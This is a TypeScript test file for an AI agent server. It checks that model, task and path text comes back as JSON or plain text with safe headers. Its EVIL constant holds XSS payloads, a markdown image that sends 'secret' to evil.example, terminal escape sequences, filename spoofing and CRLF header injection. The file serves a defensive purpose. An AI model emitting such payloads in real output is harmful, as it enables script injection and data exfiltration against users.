/** S15: what a model says is data in every answer: never a page, never a line of another header, never a control sequence. */
import * as assert from 'uvu/assert'
import { openServer, serverSuite } from '../fixtures/open-server.ts'

const test = serverSuite('S15 output')

const EVIL = [
  '<script>alert(1)</script><img src=//evil.example/x onerror=alert(1)>',
  '[x](javascript:alert(1)) ![](http://evil.example/?q=secret)',
  '\u001b]52;c;ZXZpbA==\u0007\u001b]8;;http://evil.example\u0007x\u001b[2J',
  '\u202egnp.exe \u2066\u0000\r\nSet-Cookie: a=b\r\n\r\n<html>',
].join('\n')

test('every answer with text of a model, of a task or of a path is JSON or plain text, which no browser takes for a page', async () => {
  const world = await openServer({ script: () => EVIL })
  const made = await world.ask('POST', '/v1/runs?wait=60000', { body: { task: `Say it: ${EVIL}`, tags: ['<b>'] } })
  assert.is(made.status, 201)
  const { id } = made.json
  await world.ask('POST', '/v1/agents', { body: { id: 'evil', name: EVIL, instructions: EVIL } })
  await world.ask('POST', '/v1/threads', { body: { title: EVIL, metadata: { text: EVIL } } })
  await world.ask('POST', '/v1/memory', { body: { content: EVIL } })
  const paths = [
    ...['', '?include=result,plan', '/events', '/result', '/plan', '/usage', '/trace', '/log'].map(
      (part) => `/v1/runs/${id}${part}`,
    ),
    ...['/v1/runs', '/v1/agents', '/v1/agents/evil', '/v1/threads', '/v1/memory', '/v1/inspect', '/v1/config'],
    ...['/health', '/metrics', '/readyz?verbose', '/openapi.json'],
    ...['/<script>alert(1)</script>', '/v1/runs/%3Cscript%3E', '/v1/runs?q=%3Cscript%3E&x=%3Cscript%3E'],
  ]
  for (const path of paths) {
    const { headers, text } = await world.ask('GET', path)
    const type = headers.get('content-type') ?? ''
    assert.match(type, /^(application\/(json|problem\+json|x-ndjson)|text\/plain)[; ]/, path)
    assert.match(type, /charset=utf-8|problem\+json/, path)
    assert.is(headers.get('x-content-type-options'), 'nosniff', path)
    assert.match(headers.get('content-security-policy') ?? '', /default-src 'none'.*frame-ancestors 'none'/, path)
    assert.is(headers.get('set-cookie'), null, path)
    if (type.includes('json')) assert.not.match(text, CONTROL, path)
  }
  const accept = { accept: 'text/html' }
  assert.is((await world.ask('GET', `/v1/runs/${id}`, { headers: accept })).status, 406)
  const stream = await world.ask('GET', `/v1/runs/${id}/events`, { headers: { accept: 'text/event-stream' } })
  assert.is(stream.headers.get('content-type'), 'text/event-stream; charset=utf-8')
  assert.is(stream.headers.get('x-content-type-options'), 'nosniff')
  assert.not.match(stream.text, CONTROL)
  for (const line of stream.text.split('\n')) assert.match(line, /^$|^(id|event|data|retry|:)/)
})

/** C0 controls but the line break between frames and lines. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these characters are what must not come
const CONTROL = /[\u0000-\u0009\u000b-\u001f]/

test.run()
